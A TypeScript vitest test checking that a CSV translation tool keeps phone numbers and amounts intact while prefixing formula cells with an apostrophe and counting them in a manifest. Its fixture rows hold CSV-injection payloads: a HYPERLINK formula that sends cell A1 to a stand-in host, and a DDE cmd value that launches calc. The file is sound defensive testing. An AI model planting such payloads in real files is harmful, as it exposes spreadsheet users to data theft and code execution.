import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { readManifest } from '@toex/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createFakeTranslator } from '../testing';
import { readCsvOutput, temporaryDirectory, writeExport } from './__fixtures__/job-fixtures';
import { translateFile } from './translate-file';

// The original columns are evidence: an analyst copies phone numbers out of them. Only cells a spreadsheet
// could run as code are changed (one leading `'`), and the manifest says how many and in which columns.

let directory: { path: string; remove: () => Promise<void> };
beforeEach(async () => {
  directory = await temporaryDirectory();
});
afterEach(() => directory.remove());

const header = ['#', 'Party', 'Amount', 'Message Body'];
const rows = [
  ['1', '+447700900123', '-12.5', 'Buenos días'],
  ['2', '+44 7700 900123', '(020) 7946 0018', '=HYPERLINK("http://example.invalid/?"&A1,"Abrir")'],
  ['3', "-cmd|' /C calc'!A0", '+1 (555) 010-0199', 'Hasta luego'],
  ['4', '+34 600 000 000', '-1.234,56', '@SUM(A1:A9) euros'],
];

describe('translateFile and spreadsheet formulas', () => {
  it('keeps numbers and phone numbers byte-identical, neutralises only formulas, and records where', async () => {
    const input = await writeExport(join(directory.path, 'export.csv'), { header, rows });
    const output = join(directory.path, 'export.en.csv');
    const result = await translateFile({
      input,
      output,
      provider: createFakeTranslator({ translate: (text) => text }),
      from: 'es',
      to: ['en'],
    });

    const text = await readFile(output, 'utf8');
    for (const number of [
      '+447700900123',
      '+44 7700 900123',
      '-12.5',
      '(020) 7946 0018',
      '+1 (555) 010-0199',
    ]) {
      expect(text).toContain(`,${number},`);
    }
    expect(text).not.toContain("'+44");
    const { records } = await readCsvOutput(output);
    const data = records.slice(1);
    expect(data.map((record) => record.slice(0, 3))).toEqual([
      ['1', '+447700900123', '-12.5'],
      ['2', '+44 7700 900123', '(020) 7946 0018'],
      ['3', "'-cmd|' /C calc'!A0", '+1 (555) 010-0199'],
      ['4', '+34 600 000 000', '-1.234,56'],
    ]);
    // The body and its copy in the added column (the fake translator echoes it).
    expect(data.map((record) => record[3])).toEqual([
      'Buenos días',
      `'${rows[1]![3]}`,
      'Hasta luego',
      "'@SUM(A1:A9) euros",
    ]);
    expect(data.map((record) => record[4])).toEqual(data.map((record) => record[3]));

    const manifest = await readManifest(result.manifestPath);
    expect(manifest.counts.neutralisedCells).toBe(5);
    const neutralised = manifest.warnings.filter((warning) => warning.code === 'formula_neutralised');
    expect(
      neutralised.map(({ message, count }) => ({ column: /^Column \d+ "[^"]*"/.exec(message)?.[0], count })),
    ).toEqual([
      { column: 'Column 2 "Party"', count: 1 },
      { column: 'Column 4 "Message Body"', count: 2 },
      { column: 'Column 5 "Message Body_en"', count: 2 },
    ]);
  });
});
